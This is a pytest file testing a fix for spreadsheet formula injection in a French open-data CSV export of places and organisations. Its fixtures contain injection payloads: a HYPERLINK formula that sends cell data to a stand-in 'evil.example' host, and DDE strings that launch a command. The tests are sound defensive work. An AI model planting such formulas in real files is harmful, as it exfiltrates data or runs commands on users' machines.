"""Finding 8 of the security review: a partner could publish `=HYPERLINK(...)`, `@SUM(...)`, `+…`
cells in the open-data CSV. The text fields of places and organisations refuse a leading `=`, `+`,
`@`, tab or carriage return at input (in French); the CSV puts an apostrophe before any text cell
that a spreadsheet would run (what an import brought before, and the « - » lists); the import flags
such values with a warning, keeps the place, and takes the CSV's apostrophe back off."""
import csv
import shutil
from pathlib import Path

import pytest
from sqlalchemy import select, update

from coordination.auth.models import Organisation
from coordination.directory import validation
from coordination.directory.models import Place
from coordination.errors import Invalid
from coordination.core.csv_writer import FORMULA_MESSAGE as MESSAGE
from coordination.core.csv_writer import safe_cell, starts_like_formula, without_guard
from coordination.testing.factories import make_member, make_organisation, make_place, make_user
from export import publish
from coordination.directory import imports
from tests.directory.conftest import form_data
from tests.directory.imports.helpers import csv_text, row

CSV = "lieux-de-mediation-numerique.csv"
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "=1+1"]


@pytest.fixture
def open_data_dir(app):
    directory = Path(app.config["OPEN_DATA_DIR"])
    shutil.rmtree(directory, ignore_errors=True)
    directory.mkdir(parents=True)
    yield directory
    shutil.rmtree(directory, ignore_errors=True)


def read_csv(directory) -> list[dict]:
    with (directory / CSV).open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("- atelier|- accueil", "'- atelier|- accueil"),
    ("-1.5", "-1.5"), ("+33240123456", "+33240123456"), ("47,2", "47,2"), (-1.5534, -1.5534), (None, None),
    ("", ""), ("Espace numérique", "Espace numérique"), ("2024-03-15", "2024-03-15"),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
    if isinstance(value, str):
        assert without_guard(safe_cell(value)) == value


@pytest.mark.parametrize(("text", "refused"), [("=A1", True), ("+ de 20 ans", True), ("@moi", True), ("\tNom", True),
                                               ("\rNom", True), ("- atelier", False), ("Nom = valeur", False),
                                               ("", False), (None, False), ("'=A1", False)])
def test_starts_like_formula(text, refused):
    assert starts_like_formula(text) is refused


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("field", ["name", "address", "commune", "summary", "description", "parent_structure",
                                   "other_labels"])
def test_the_place_form_refuses_a_formula_next_to_the_field(client, db, login, field, formula):
    organisation = make_organisation("Les Connectés")
    place = make_place(organisation, name="Espace numérique")
    login(make_member(organisation, role="admin"))
    response = client.post(f"/espace-partenaire/lieux/{place.id}/modifier", data=form_data(place, **{field: formula}))
    assert response.status_code in (200, 400)
    page = response.get_data(as_text=True)
    assert "Ce champ ne peut pas commencer par =, +, @ ni par une tabulation" in page
    db.session.expire_all()
    assert db.session.scalar(select(Place.name).where(Place.id == place.id)) == "Espace numérique"


def test_a_dash_list_is_still_accepted(client, db, login):
    organisation = make_organisation("Les Connectés")
    place = make_place(organisation, name="Espace numérique")
    login(make_member(organisation, role="admin"))
    response = client.post(f"/espace-partenaire/lieux/{place.id}/modifier",
                           data=form_data(place, description="- ateliers\n- accueil libre"))
    assert response.status_code == 302


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_place_service_refuses_a_formula(app, formula):
    with pytest.raises(Invalid) as error:
        validation.clean_place({"name": formula, "summary": formula, "other_labels": f"Label\n{formula}"}, partial=True)
    assert error.value.errors == {"name": [MESSAGE], "summary": [MESSAGE], "other_labels": [MESSAGE]}


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_organisation_name_refuses_a_formula(client, db, mail_outbox, formula):
    from tests.auth.test_join import join_data
    response = client.post("/rejoindre", data=join_data(name=formula))
    assert response.status_code == 200
    assert "Ce champ ne peut pas commencer par =, +, @ ni par une tabulation" in response.get_data(as_text=True)
    assert db.session.scalars(select(Organisation)).all() == [] and mail_outbox() == []


def test_the_open_data_csv_neutralises_a_formula_stored_before(db, open_data_dir):
    organisation = make_organisation("Les Connectés", pivot="73282932000074")
    place = make_place(organisation, phone="+33240123456", latitude=47.2, longitude=-1.55,
                       description="- ateliers\n- accueil libre")
    db.session.execute(update(Place).where(Place.id == place.id).values(name=FORMULAS[0], summary="@SUM(1+1)",
                                                                        address="+1+1"))
    db.session.commit()
    publish.publish_all()
    (published,) = read_csv(open_data_dir)
    assert published["nom"] == "'" + FORMULAS[0]
    assert (published["presentation_resume"], published["adresse"]) == ("'@SUM(1+1)", "'+1+1")
    assert published["presentation_detail"] == "'- ateliers\n- accueil libre"
    # Numbers stay numbers: the standard's phone pattern and coordinates are untouched.
    assert (published["telephone"], published["latitude"], published["longitude"]) == ("+33240123456", "47.2", "-1.55")
    assert not [cell for cell in published.values() if cell and cell[0] in "=+-@\t\r" and cell not in ("+33240123456", "-1.55")]


def test_an_import_flags_a_formula_and_keeps_the_place(db, tmp_path):
    coordinator = make_user("coordination@exemple.fr", coordinator=True)
    path = tmp_path / "lieux.csv"
    path.write_text(csv_text([row(nom="=HYPERLINK(\"https://evil.example\")")]), encoding="utf-8")
    outcome = imports.apply_file(path, actor=coordinator)
    assert outcome.report.applied
    (warning,) = [p for p in outcome.problems if p.column == "nom"]
    assert warning.severity == "warning" and "formule de tableur" in warning.message
    assert db.session.scalar(select(Place.name)) == "=HYPERLINK(\"https://evil.example\")"


def test_a_maillage_csv_round_trips_through_its_guard(db, open_data_dir, tmp_path):
    organisation = make_organisation("Les Connectés", pivot="73282932000074")
    place = make_place(organisation, description="- ateliers\n- accueil libre", summary="- accueil")
    publish.publish_all()
    text = (open_data_dir / CSV).read_text(encoding="utf-8")
    assert "'- accueil" in text
    copy = tmp_path / "copie.csv"
    copy.write_text(text, encoding="utf-8")
    outcome = imports.apply_file(copy, actor=make_user("coordination@exemple.fr", coordinator=True))
    assert outcome.report.applied and not [p for p in outcome.problems if p.severity == "error"]
    db.session.expire_all()
    stored = db.session.get(Place, place.id)
    assert (stored.summary, stored.description) == ("- accueil", "- ateliers\n- accueil libre")
